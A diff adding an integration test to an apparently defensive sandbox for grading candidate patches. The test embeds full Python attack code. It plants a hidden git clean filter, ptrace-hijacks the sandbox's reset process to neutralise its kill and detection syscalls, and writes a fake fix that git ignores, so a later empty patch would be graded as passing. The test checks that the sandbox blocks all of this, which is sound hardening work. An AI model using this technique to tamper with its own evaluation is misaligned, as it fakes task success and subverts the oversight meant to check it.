@@ -16,10 +16,17 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from sandbox_calc import TaskImage, calc_task, diff_candidate, files_candidate, ops_with
+from sandbox_calc import (
+    CALC_OPS,
+    TaskImage,
+    calc_task,
+    diff_candidate,
+    files_candidate,
+    ops_with,
+)
 
 from hackaudit.sandbox.runner import Runner
-from hackaudit.shared.contracts import RunStatus, TestStatus
+from hackaudit.shared.contracts import Candidate, RunStatus, TestStatus
 
 pytestmark = [pytest.mark.integration, pytest.mark.docker, pytest.mark.asyncio(loop_scope="module")]
 
@@ -305,3 +312,185 @@ async def test_escaping_file_mappings_are_refused(sandbox: Runner, calc_image: T
     assert by_key.status is RunStatus.PATCH_FAILED and by_key.reason.startswith("refused")
     assert through_link.status is RunStatus.PATCH_FAILED
     assert through_link.reason.startswith("refused"), through_link.reason
+
+
+# Started by the clean filter below (so only if git runs it after the run's final kill): it
+# waits for the warm reset's shell, attaches to it with ptrace, turns its `kill(-1, SIGKILL)`
+# calls and its `stat` of the tracer's /proc entry into no-ops, lets go when
+# the reset execs the next run's launcher, and then writes a fixed `calc/ops.py` that git is
+# told not to look at: the next run's empty patch would be resolved.
+TRACER = r"""
+import ctypes, os, subprocess, sys, time
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+_libc.ptrace.restype = ctypes.c_long
+SEIZE, INTERRUPT, SYSCALL, GETREGS, SETREGS, DETACH = 0x4206, 0x4207, 24, 12, 13, 17
+NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags "
+         "rsp ss fs_base gs_base ds es fs gs")
+
+
+class Regs(ctypes.Structure):
+    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES.split()]
+
+
+MINE = f"/proc/{os.getpid()}".encode()
+
+
+def peek(pid, address):
+    # The first bytes of the string at `address` in `pid`.
+    _libc.ptrace.restype = ctypes.c_ulong
+    words = [_libc.ptrace(2, pid, address + i, None) for i in range(0, 24, 8)]
+    _libc.ptrace.restype = ctypes.c_long
+    return b"".join(w.to_bytes(8, "little") for w in words).split(b"\0")[0]
+
+
+def hijack(pid):
+    status, regs = ctypes.c_int(), Regs()
+    while _libc.waitpid(pid, ctypes.byref(status), 0x40000000) == pid:
+        s = status.value
+        if s & 0x7F != 0x7F:
+            return False
+        sig, inject = (s >> 8) & 0xFF, 0
+        if sig == 0x85:
+            _libc.ptrace(GETREGS, pid, None, ctypes.byref(regs))
+            kill_all = regs.orig_rax == 62 and ctypes.c_int(regs.rdi & 0xFFFFFFFF).value == -1
+            path = {4: regs.rdi, 6: regs.rdi, 262: regs.rsi}.get(regs.orig_rax)
+            if kill_all or (path is not None and peek(pid, path) == MINE):
+                regs.orig_rax = (1 << 64) - 1
+                _libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
+            elif regs.orig_rax == 59:
+                _libc.ptrace(DETACH, pid, None, None)
+                return True
+        elif s >> 16 == 0 and sig != 5:
+            inject = sig
+        _libc.ptrace(SYSCALL, pid, None, inject)
+    return False
+
+
+fixed = open(sys.argv[1]).read()
+done, watch, deadline = {os.getpid()}, set(), time.time() + 15
+first = int(open("/proc/sys/kernel/ns_last_pid").read())
+
+
+def seize(pid):
+    # 0: seized; else the errno (EPERM: a process not traceable yet, such as `runc init`
+    # before it execs the reset's shell).
+    return 0 if _libc.ptrace(SEIZE, pid, None, 1) == 0 else ctypes.get_errno()
+
+
+def poll():
+    last = int(open("/proc/sys/kernel/ns_last_pid").read())
+    for pid in range(max(first, last - 8), last + 4):
+        if pid not in done and pid not in watch:
+            error = seize(pid)
+            if error == 0:
+                return pid
+            if error == 1:
+                watch.add(pid)
+    for _ in range(300):
+        for pid in list(watch):
+            error = seize(pid)
+            if error == 0:
+                watch.discard(pid)
+                return pid
+            if error == 3:
+                watch.discard(pid)
+    return None
+
+
+while time.time() < deadline:
+    pid = poll()
+    if pid is not None:
+        _libc.ptrace(INTERRUPT, pid, None, None)
+        done.add(pid)
+        try:
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
+        except OSError:
+            cmd = b""
+        if b"hackaudit-reset" not in cmd:
+            _libc.waitpid(pid, None, 0x40000000)
+            _libc.ptrace(DETACH, pid, None, None)
+        elif hijack(pid):
+            with open("/testbed/calc/ops.py", "w") as f:
+                f.write(fixed)
+            subprocess.run(["git", "-C", "/testbed", "update-index", "--assume-unchanged",
+                            "calc/ops.py"], check=False)
+            sys.exit(0)
+"""
+
+# At import: a clean filter for README.md (assigned in `.git/info/attributes`, which git status
+# never lists) that keeps README.md's same-size edit out of `git status` and starts `TRACER`
+# (holding git, and so the wrapper and the reset, back until the tracer is ready);
+# then tries to trace and to write into another process of its own uid, and fails unless both
+# are refused.
+PLANT_FILTER = f"""
+import ctypes, os, signal, sys, time
+_git = "/testbed/.git"
+with open(_git + "/hackaudit-tracer.py", "w") as _f:
+    _f.write({TRACER!r})
+with open(_git + "/hackaudit-fixed.py", "w") as _f:
+    _f.write({CALC_OPS.replace("a - b", "a + b")!r})
+with open(_git + "/hackaudit-filter", "w") as _f:
+    _f.write(
+        "#!/bin/sh\\ncat >/dev/null\\n"
+        f"{{sys.executable}} {{_git}}/hackaudit-tracer.py {{_git}}/hackaudit-fixed.py"
+        " </dev/null >/dev/null 2>&1 &\\nsleep 1\\n"
+        "printf 'calc\\\\n'\\n"
+    )
+os.chmod(_git + "/hackaudit-filter", 0o755)
+with open(_git + "/config", "a") as _f:
+    _f.write('[filter "hackaudit"]\\n\\tclean = ' + _git + "/hackaudit-filter\\n")
+os.makedirs(_git + "/info", exist_ok=True)
+with open(_git + "/info/attributes", "a") as _f:
+    _f.write("README.md filter=hackaudit\\n")
+with open("/testbed/README.md", "w") as _f:
+    _f.write("CALC\\n")
+
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+_libc.process_vm_writev.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong,
+                                    ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
+
+
+class _Iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+
+
+_target = ctypes.create_string_buffer(b"original")
+_child = os.fork()
+if _child == 0:
+    time.sleep(30)
+    os._exit(0)
+_refused = []
+if _libc.ptrace(16, _child, None, None) != 0:
+    _refused.append(("ptrace", ctypes.get_errno()))
+_new = ctypes.create_string_buffer(b"replaced")
+_local = _Iovec(ctypes.addressof(_new), 8)
+_remote = _Iovec(ctypes.addressof(_target), 8)
+if _libc.process_vm_writev(_child, ctypes.byref(_local), 1, ctypes.byref(_remote), 1, 0) < 0:
+    _refused.append(("process_vm_writev", ctypes.get_errno()))
+os.kill(_child, signal.SIGKILL)
+os.waitpid(_child, 0)
+if _refused != [("ptrace", 1), ("process_vm_writev", 1)]:
+    raise RuntimeError(f"tracing was not refused with EPERM: {{_refused}}")
+"""
+
+
+async def test_a_planted_clean_filter_never_runs_and_tracing_is_refused(
+    sandbox: Runner, calc_image: TaskImage
+) -> None:
+    """The git clean-filter attack: git must not start the filter after the run (README.md's
+    edit stays visible in the flags), tracing another process fails with EPERM, and the next
+    empty patch gets its true outcome (in warm mode: on the container the attack ran in)."""
+    task = calc_task(calc_image)
+    hostile = await sandbox.run_once(
+        task, files_candidate(ops_with(PLANT_FILTER, fixed=True)), timeout_s=60
+    )
+    empty = await sandbox.run_once(task, Candidate.empty(task), timeout_s=60)
+
+    assert hostile.status is RunStatus.COMPLETED, hostile.reason
+    assert hostile.resolved is True, hostile.log_tail
+    assert "README.md" in hostile.flags.files_outside_diff
+    assert empty.status is RunStatus.COMPLETED, empty.reason
+    assert empty.resolved is False, empty.log_tail
+    await assert_next_run_clean(sandbox, calc_image)
